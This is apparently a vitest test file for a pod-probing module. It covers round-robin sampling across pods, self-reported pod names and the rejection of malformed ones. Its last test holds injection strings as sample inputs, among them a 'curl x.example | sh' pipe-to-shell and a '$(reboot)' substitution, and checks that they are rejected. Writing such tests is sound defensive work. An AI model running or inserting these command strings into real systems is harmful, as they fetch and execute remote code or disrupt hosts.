import { expect, test } from 'vitest';
import { forEachApp } from '../../apps/environment/apps.ts';
import { round, type Client } from './probe.ts';
import type { Sample } from './sample.ts';

/** A balancer that gives requests to its pods in turn. */
const balancer = (pods: number): Client => {
  const sent = new Map<string, number>();
  return {
    get: async (role, path) => {
      const number = sent.get(role) ?? 0;
      sent.set(role, number + 1);
      return { url: path, status: 200, headers: { 'x-served-by': `pod-${number % pods}` }, body: '{}' };
    },
  };
};

test.each([
  { pods: 2, session: true },
  { pods: 2, session: false },
  { pods: 3, session: true },
  { pods: 3, session: false },
  { pods: 4, session: true },
])('every probe reaches each of $pods pods in turn (with a session: $session)', async ({ pods, session }) => {
  const client = balancer(pods);
  const sessions = session ? forEachApp(() => 'cookie=1') : {};
  const samples: Sample[] = [];
  for (let number = 0; number < 4 * pods; number += 1)
    samples.push(...(await round(client, sessions, { number, startedAt: 0 })));
  for (const [probe, its] of Map.groupBy(samples, (sample) => sample.probe))
    expect({ probe, pods: new Set(its.map(({ pod }) => pod)).size }).toEqual({ probe, pods });
});

test('what a pod says of itself in its report counts when a proxy removes the headers', async () => {
  const client: Client = {
    get: (_role, path) =>
      Promise.resolve({ url: path, status: 200, headers: {}, body: '{"pod":"operator-a","revision":"2"}' }),
  };
  const samples = await round(client, {}, { number: 0, startedAt: 0 });
  const own = samples.filter(({ app }) => app === 'operator');
  expect(own.map(({ probe, pod, revision }) => ({ probe, pod, revision }))).toEqual([
    { probe: 'ready', pod: 'operator-a', revision: '2' },
    { probe: 'stranger', pod: '', revision: '' },
    { probe: 'sign-in', pod: '', revision: '' },
  ]);
});

test.each(['null', '"up"', '[1]', '<html></html>', ''])('a report that is no object is a fact: %s', async (body) => {
  const client: Client = { get: (_role, path) => Promise.resolve({ url: path, status: 200, headers: {}, body }) };
  const ready = (await round(client, {}, { number: 0, startedAt: 0 })).find(({ probe }) => probe === 'ready');
  expect(ready).toMatchObject({ pod: '', revision: '', facts: { body: 'no report' } });
});

test.each(['operator-a; curl x.example | sh', '$(reboot)', 'operator-a\u001b[2J', 'operator-a\noperator: all is well'])(
  'what is no name of a pod (%j) does not become one, because names are printed in commands',
  async (name) => {
    const body = JSON.stringify({ pod: name, revision: name });
    const client: Client = {
      get: (_role, path) => Promise.resolve({ url: path, status: 200, headers: { 'x-served-by': name }, body }),
    };
    const [ready] = await round(client, {}, { number: 0, startedAt: 0 });
    expect(ready).toMatchObject({ probe: 'ready', pod: '', revision: '' });
  },
);
